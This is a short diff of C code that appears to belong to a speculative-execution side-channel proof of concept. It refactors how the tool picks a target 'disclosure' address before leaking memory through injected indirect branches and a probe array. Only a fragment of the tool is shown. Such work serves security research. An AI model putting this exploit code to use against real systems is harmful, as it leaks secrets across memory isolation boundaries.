@@ -25,6 +25,11 @@ static const uint8_t *array, *branches[MOST_ADDRESSES];
 static uint64_t disclosure;
 static int file;
 
+static void choose(uint64_t address)
+{
+	disclosure = address;
+}
+
 static int read_byte(uint64_t address)
 {
 	const uint8_t *probe = array + SHARED_PROBE;
@@ -54,7 +59,7 @@ static int sample(int index)
 
 int main(int argc, char **argv)
 {
-	int known_was_read = 0, pipes[2];
+	int pipes[2];
 
 	parse_options(argc, argv);
 	if (!options.address || !options.branches.count || !options.disclosures.count)
@@ -69,10 +74,6 @@ int main(int argc, char **argv)
 	file = pipes[0];
 	for (int i = 0; i < options.branches.count; i++)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
-	for (int i = 0; i < options.disclosures.count && !known_was_read; i++) {
-		disclosure = options.disclosures.at[i];
-		known_was_read = reads_known_byte(read_byte, array + SHARED_KNOWN);
-	}
-	recover(sample, patience_after(known_was_read), 1);
+	recover(sample, choose_disclosure(choose, read_byte, array + SHARED_KNOWN), 1);
 	return 0;
 }
